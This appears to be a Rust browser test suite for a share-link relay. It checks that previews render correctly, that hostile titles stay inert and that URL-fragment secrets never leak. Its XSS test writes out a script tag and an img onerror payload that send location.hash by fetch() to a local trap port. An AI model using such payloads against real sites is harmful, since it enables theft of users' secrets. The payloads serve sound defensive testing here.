//! §11 in a real browser: Debian's headless Chromium, driven over its DevTools protocol, opens
//! share URLs with a secret in the fragment. The preview shows its title and image; a title made
//! of markup and script shows as text and runs nothing; and no request the page makes carries the
//! fragment.
//!
//! Chromium is required, never skipped: `apt-get install chromium` (or set `TIGRESS_CHROMIUM` to
//! another Chromium binary).

use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::Router;
use axum::extract::Request;
use axum::http::header;
use axum::response::IntoResponse;
use axum_server::tls_rustls::RustlsConfig;
use futures_util::{SinkExt, StreamExt};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::io::AsyncReadExt;
use tokio::net::TcpStream;
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::{MaybeTlsStream, WebSocketStream};

use crate::support::*;

/// A 4×3 red PNG.
const PNG: [u8; 73] = [
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0x03, 0x08, 0x02, 0x00, 0x00, 0x00, 0x3b, 0x96, 0x39,
    0x91, 0x00, 0x00, 0x00, 0x10, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0x00,
    0x47, 0x0c, 0x38, 0x39, 0x00, 0xf5, 0x31, 0x0b, 0xf5, 0x35, 0x7b, 0xfb, 0x82, 0x00, 0x00, 0x00,
    0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
];

/// Everything a local server received: request line and headers, as text.
type Seen = Arc<Mutex<Vec<String>>>;

/// An HTTPS server of the preview images (the relay accepts only `https` image URLs), with a
/// certificate of its own that Chromium is told to accept; it records every request.
async fn image_server() -> (String, Seen) {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let certified = rcgen::generate_simple_self_signed(vec!["127.0.0.1".into()]).unwrap();
    let tls = RustlsConfig::from_pem(
        certified.cert.pem().into_bytes(),
        certified.key_pair.serialize_pem().into_bytes(),
    )
    .await
    .unwrap();
    let seen = Seen::default();
    let record = Arc::clone(&seen);
    let app = Router::new().fallback(move |request: Request| {
        let record = Arc::clone(&record);
        async move {
            record.lock().unwrap().push(format!("{} {:?}", request.uri(), request.headers()));
            ([(header::CONTENT_TYPE, "image/png")], PNG.to_vec()).into_response()
        }
    });
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = axum_server::from_tcp_rustls(listener, tls);
    tokio::spawn(async move { server.serve(app.into_make_service()).await });
    (format!("https://127.0.0.1:{port}"), seen)
}

/// A plain TCP listener the injected script would call: it records whatever reaches it.
async fn trap_listener() -> (u16, Seen) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Seen::default();
    let record = Arc::clone(&seen);
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut head = vec![0; 4096];
            let n = tokio::time::timeout(Duration::from_secs(2), stream.read(&mut head))
                .await
                .map_or(0, |read| read.unwrap_or(0));
            record.lock().unwrap().push(String::from_utf8_lossy(&head[..n]).into_owned());
        }
    });
    (port, seen)
}

/// The Chromium binary: `TIGRESS_CHROMIUM`, or `chromium` on the PATH. Missing is a failure.
fn chromium() -> PathBuf {
    if let Some(path) = std::env::var_os("TIGRESS_CHROMIUM") {
        return PathBuf::from(path);
    }
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path)
        .map(|dir| dir.join("chromium"))
        .find(|candidate| candidate.is_file())
        .unwrap_or_else(|| {
            panic!(
                "the browser test needs Chromium and found none on the PATH: \
                 run `apt-get install chromium` (or set TIGRESS_CHROMIUM to a Chromium binary)"
            )
        })
}

/// One headless Chromium with one page, driven over the DevTools protocol's WebSocket.
struct Browser {
    // Dropped last: kill_on_drop ends Chromium when the test ends, however it ends.
    _process: tokio::process::Child,
    _profile: tempfile::TempDir,
    socket: WebSocketStream<MaybeTlsStream<TcpStream>>,
    session: String,
    next_id: u64,
    /// Every event of the page's session, in order.
    events: Vec<Value>,
}

impl Browser {
    async fn launch() -> Self {
        let binary = chromium();
        let profile = tempfile::tempdir().unwrap();
        let process = tokio::process::Command::new(&binary)
            .args([
                "--headless",
                // Tests run as root in CI containers, where Chromium's sandbox cannot start.
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                "--no-default-browser-check",
                // The image server's certificate is self-signed, made by this test.
                "--ignore-certificate-errors",
                "--remote-debugging-port=0",
                "--remote-debugging-address=127.0.0.1",
            ])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg("about:blank")
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap_or_else(|e| {
                panic!("could not start {} ({e}): run `apt-get install chromium`", binary.display())
            });
        // Chromium writes its DevTools port and browser path here once it listens.
        let active_port = profile.path().join("DevToolsActivePort");
        let started = Instant::now();
        let endpoint = loop {
            if let Ok(text) = std::fs::read_to_string(&active_port) {
                let mut lines = text.lines();
                if let (Some(port), Some(path)) = (lines.next(), lines.next()) {
                    break format!("ws://127.0.0.1:{port}{path}");
                }
            }
            assert!(started.elapsed() < Duration::from_secs(20), "Chromium did not start");
            tokio::time::sleep(Duration::from_millis(50)).await;
        };
        let (socket, _) = tokio_tungstenite::connect_async(endpoint.as_str()).await.unwrap();
        let mut browser = Self {
            _process: process,
            _profile: profile,
            socket,
            session: String::new(),
            next_id: 0,
            events: Vec::new(),
        };
        let target = browser.call("Target.createTarget", json!({"url": "about:blank"})).await;
        let attached = browser
            .call("Target.attachToTarget", json!({"targetId": target["targetId"], "flatten": true}))
            .await;
        browser.session = attached["sessionId"].as_str().unwrap().to_owned();
        browser.call("Network.enable", json!({})).await;
        browser.call("Page.enable", json!({})).await;
        browser
    }

    /// Sends one command (to the page's session once attached) and returns its result; events
    /// that arrive meanwhile are kept.
    async fn call(&mut self, method: &str, params: Value) -> Value {
        self.next_id += 1;
        let id = self.next_id;
        let mut command = json!({"id": id, "method": method, "params": params});
        if !self.session.is_empty() {
            command["sessionId"] = json!(self.session);
        }
        self.socket.send(Message::text(command.to_string())).await.unwrap();
        loop {
            let message = self.receive().await;
            if message["id"] == json!(id) {
                assert!(message.get("error").is_none(), "{method} failed: {message}");
                return message["result"].clone();
            }
            if message.get("method").is_some() {
                self.events.push(message);
            }
        }
    }

    async fn receive(&mut self) -> Value {
        let next = tokio::time::timeout(Duration::from_secs(15), self.socket.next()).await;
        let message = next.expect("Chromium answered in time").expect("open").expect("message");
        serde_json::from_str(message.to_text().unwrap()).unwrap()
    }

    /// Opens `url` and waits for its load event (which waits for its image).
    async fn open(&mut self, url: &str) {
        let seen = self.events.len();
        let navigated = self.call("Page.navigate", json!({"url": url})).await;
        assert!(navigated.get("errorText").is_none(), "navigation failed: {navigated}");
        let loaded = |events: &[Value]| {
            events[seen..].iter().any(|event| event["method"] == "Page.loadEventFired")
        };
        while !loaded(&self.events) {
            let message = self.receive().await;
            if message.get("method").is_some() {
                self.events.push(message);
            }
        }
    }

    /// Evaluates `expression` in the page and returns its JSON value.
    async fn eval(&mut self, expression: &str) -> Value {
        let result = self
            .call("Runtime.evaluate", json!({"expression": expression, "returnByValue": true}))
            .await;
        assert!(result.get("exceptionDetails").is_none(), "{result}");
        result["result"]["value"].clone()
    }
}

/// What the page shows, read from the live DOM.
const INSPECT: &str = r#"(() => {
  const img = document.querySelector("img");
  return {
    title: document.title,
    heading: document.querySelector("h1") ? document.querySelector("h1").textContent : null,
    text: document.body.innerText,
    imageSrc: img ? img.src : null,
    imageLoaded: img ? img.complete && img.naturalWidth : 0,
    hash: location.hash,
    scripts: document.querySelectorAll("script").length,
    elements: Array.from(document.querySelectorAll("*"), (e) => e.localName),
  };
})()"#;

#[tokio::test]
async fn chromium_renders_the_preview_runs_nothing_and_never_sends_the_fragment() {
    let started = Instant::now();
    let relay = TestRelay::start().await;
    let (images, image_requests) = image_server().await;
    let (trap, trap_requests) = trap_listener().await;
    let mut browser = Browser::launch().await;
    // The share URL's secret: letters and digits only, so that it reads the same wherever it
    // might turn up, escaped or not.
    let secret = format!("K{}", uuid::Uuid::new_v4().simple());

    // (a) A plain share: its title and its image, which really loads.
    let image = format!("{images}/car.png?share=plain");
    let mut body = create_body();
    body["displayInformation"] = json!({"title": "Car Key for Anna", "description": "Valid until Sunday", "imageURL": image});
    let created = relay.send(Method::POST, "/v1/m", Some(&new_uuid()), None, Some(&body)).await;
    assert_eq!(created.status, StatusCode::OK, "{}", created.text);
    browser.open(&format!("{}?v=h#{secret}", relay.url(&mailbox_path(&created)))).await;
    let page = browser.eval(INSPECT).await;
    assert_eq!(page["hash"], format!("#{secret}"), "the page was opened with the secret: {page}");
    assert_eq!(page["title"], "Car Key for Anna", "{page}");
    assert_eq!(page["heading"], "Car Key for Anna", "{page}");
    assert_eq!(page["imageSrc"], image, "{page}");
    assert_eq!(page["imageLoaded"], 4, "the image loaded (naturalWidth 4): {page}");

    // (b) A title of markup and script: text on the page, no element made from it, no request.
    let title = format!(
        "<script>fetch('http://127.0.0.1:{trap}/pwned?'+encodeURIComponent(location.hash))</script><b>x</b>"
    );
    let description =
        format!("<img src=x onerror=\"fetch('http://127.0.0.1:{trap}/onerror?'+location.hash)\">");
    body["displayInformation"] = json!({
        "title": title,
        "description": description,
        "imageURL": format!("{images}/car.png?share=hostile"),
    });
    let created = relay.send(Method::POST, "/v1/m", Some(&new_uuid()), None, Some(&body)).await;
    assert_eq!(created.status, StatusCode::OK, "{}", created.text);
    browser.open(&format!("{}?v=h#{secret}", relay.url(&mailbox_path(&created)))).await;
    let page = browser.eval(INSPECT).await;
    assert_eq!(page["title"], title, "{page}");
    assert_eq!(page["heading"], title, "{page}");
    let text = page["text"].as_str().unwrap();
    assert!(text.contains(&title) && text.contains(&description), "shown as text: {page}");
    assert_eq!(page["scripts"], 0, "{page}");
    let elements: Vec<&str> =
        page["elements"].as_array().unwrap().iter().map(|e| e.as_str().unwrap()).collect();
    assert!(!elements.contains(&"b"), "an element was made from the title: {elements:?}");
    assert_eq!(elements.iter().filter(|e| **e == "img").count(), 1, "{elements:?}");
    // A script that ran would have called by now; give a stray one a moment more.
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert!(trap_requests.lock().unwrap().is_empty(), "{:?}", trap_requests.lock().unwrap());

    // (c) No request of either page carried the secret: neither its URL, headers or body as
    // Chromium sent them (the DevTools request events and the headers really sent), nor what the
    // image server received. The document's own `urlFragment` is the browser's, never sent.
    let mut requests = 0;
    for event in &browser.events {
        let method = event["method"].as_str().unwrap_or_default();
        let sent = match method {
            "Network.requestWillBeSent" => {
                requests += 1;
                let mut request = event["params"]["request"].clone();
                request.as_object_mut().unwrap().remove("urlFragment");
                request
            }
            "Network.requestWillBeSentExtraInfo" => event["params"]["headers"].clone(),
            _ => continue,
        };
        assert!(!sent.to_string().contains(&secret), "{method} carries the secret: {sent}");
    }
    let images_seen = image_requests.lock().unwrap().clone();
    for share in ["share=plain", "share=hostile"] {
        assert!(images_seen.iter().any(|seen| seen.contains(share)), "{share}: {images_seen:?}");
    }
    assert!(images_seen.iter().all(|seen| !seen.contains(&secret)), "{images_seen:?}");
    // Two documents and two images at least, so the checks above had requests to check.
    assert!(requests >= 4, "{requests} requests seen");
    assert!(started.elapsed() < Duration::from_secs(30), "took {:?}", started.elapsed());
}

/// Where the preview screenshots are written: `target/preview-screenshots/` of the workspace.
fn screenshot_dir() -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../target/preview-screenshots");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// The width and height of a PNG, from its IHDR chunk.
fn png_size(png: &[u8]) -> (u32, u32) {
    assert!(png.len() > 24 && png.starts_with(&[0x89, b'P', b'N', b'G']), "not a PNG");
    let word = |at: usize| u32::from_be_bytes(png[at..at + 4].try_into().unwrap());
    (word(16), word(20))
}

/// What the laid-out page shows: which next step is visible, and whether anything is wider
/// than the viewport.
const LAYOUT: &str = r#"(() => {
  const shown = (selector) => getComputedStyle(document.querySelector(selector)).display !== "none";
  const width = window.innerWidth;
  const wide = Array.from(document.querySelectorAll("body *"))
    .filter((e) => e.getBoundingClientRect().right > width + 1)
    .map((e) => e.localName + "." + e.className);
  return {
    lang: document.documentElement.lang,
    text: document.body.innerText,
    phone: shown(".phone"),
    desktop: shown(".desktop"),
    scrollWidth: document.documentElement.scrollWidth,
    width,
    wide,
    imageLoaded: document.querySelector("img").naturalWidth,
  };
})()"#;

/// The preview as a person sees it: at phone (390 px) and desktop (1280 px) width, in German
/// and Japanese, each screenshot taken and kept in `target/preview-screenshots/`; the text of
/// the language is there, the next step is the one for the device, nothing is wider than the
/// viewport (a long unbroken title included), and no request leaves but the page's and the
/// sender's image's.
#[tokio::test]
async fn the_preview_reads_well_on_a_phone_and_a_desktop_in_two_languages() {
    let relay = TestRelay::start_with(|config| {
        config.app_links.offer = tigress_relay::app_links::AppOffer {
            name: Some("Example Wallet".into()),
            app_store_url: Some("https://apps.apple.example/app/id123".into()),
            play_store_url: Some("https://play.google.example/store/apps/details?id=w".into()),
        };
    })
    .await;
    let fonts = std::process::Command::new("fc-list").arg(":lang=ja").output();
    let japanese = fonts.is_ok_and(|out| out.status.success() && !out.stdout.is_empty());
    assert!(
        japanese,
        "the Japanese screenshots need a font with Japanese glyphs: run `apt-get install \
         fonts-ipafont-gothic` (fontconfig's fc-list finds none for :lang=ja)"
    );
    let (images, image_requests) = image_server().await;
    let mut browser = Browser::launch().await;
    let image = format!("{images}/car.png?share=layout");
    let title = format!("Autoschlüssel-{}", "Wochenendausflug".repeat(6));
    let mut body = create_body();
    body["displayInformation"] =
        json!({"title": title, "description": "Golf, Kennzeichen B-TG 2030", "imageURL": image});
    let created = relay.send(Method::POST, "/v1/m", Some(&new_uuid()), None, Some(&body)).await;
    assert_eq!(created.status, StatusCode::OK, "{}", created.text);
    let page_url = relay.url(&format!("{}?v=c", mailbox_path(&created)));
    let secret = format!("K{}", uuid::Uuid::new_v4().simple());

    let dir = screenshot_dir();
    // Per language: what both devices show, what only the phone shows, what only the desktop.
    let languages = [
        (
            "de",
            ["Autoschlüssel", "noch 2 Tage", "weder lesen noch benutzen"],
            "Öffne diesen Link mit Example Wallet",
            "Öffne diesen Link auf deinem Telefon",
        ),
        (
            "ja",
            ["車のキー", "あと 2 日", "読むことも使うこともできません"],
            "Example Wallet で開いて",
            "このリンクはスマートフォンで開いてください",
        ),
    ];
    for (language, expected, on_phone, on_desktop) in languages {
        browser
            .call("Network.setExtraHTTPHeaders", json!({"headers": {"Accept-Language": language}}))
            .await;
        for (device, width, height, mobile) in
            [("phone", 390, 844, true), ("desktop", 1280, 800, false)]
        {
            let metrics =
                json!({"width": width, "height": height, "deviceScaleFactor": 1, "mobile": mobile});
            browser.call("Emulation.setDeviceMetricsOverride", metrics).await;
            browser.call("Emulation.setTouchEmulationEnabled", json!({"enabled": mobile})).await;
            let seen = browser.events.len();
            // Each view its own URL (the relay ignores the extra parameter): opening the same
            // URL again would only move to its fragment, and load nothing.
            let page_url = format!("{page_url}&view={language}-{device}");
            browser.open(&format!("{page_url}#{secret}")).await;
            let layout = browser.eval(LAYOUT).await;
            let what = format!("{language} {device}: {layout}");
            assert_eq!(layout["lang"], if language == "ja" { "ja" } else { "de" }, "{what}");
            let text = layout["text"].as_str().unwrap();
            for words in expected {
                assert!(text.contains(words), "{words}: {what}");
            }
            // innerText holds only what is displayed: each device's step, not the other's.
            let (shown, hidden) =
                if mobile { (on_phone, on_desktop) } else { (on_desktop, on_phone) };
            assert!(text.contains(shown) && !text.contains(hidden), "{shown}: {what}");
            assert_eq!(layout["phone"], mobile, "the phone's next step: {what}");
            assert_eq!(layout["desktop"], !mobile, "the desktop's next step: {what}");
            assert_eq!(layout["width"], width, "{what}");
            assert!(layout["scrollWidth"].as_u64().unwrap() <= width, "overflows: {what}");
            assert_eq!(layout["wide"], json!([]), "wider than the viewport: {what}");
            assert_eq!(layout["imageLoaded"], 4, "{what}");

            let shot = browser
                .call(
                    "Page.captureScreenshot",
                    json!({"format": "png", "captureBeyondViewport": true}),
                )
                .await;
            let png = base64_decode(shot["data"].as_str().unwrap());
            assert_eq!(u64::from(png_size(&png).0), width, "{language} {device}");
            let file = dir.join(format!("preview-{language}-{device}.png"));
            std::fs::write(&file, &png).unwrap();

            // Only the page itself and the sender's image were fetched.
            for event in &browser.events[seen..] {
                if event["method"] == "Network.requestWillBeSent" {
                    let url = event["params"]["request"]["url"].as_str().unwrap();
                    assert!(url == page_url || url == image, "{language} {device} fetched {url}");
                }
            }
        }
    }
    assert!(image_requests.lock().unwrap().iter().all(|seen| !seen.contains(&secret)));
}

fn base64_decode(text: &str) -> Vec<u8> {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.decode(text).expect("base64 from Chromium")
}
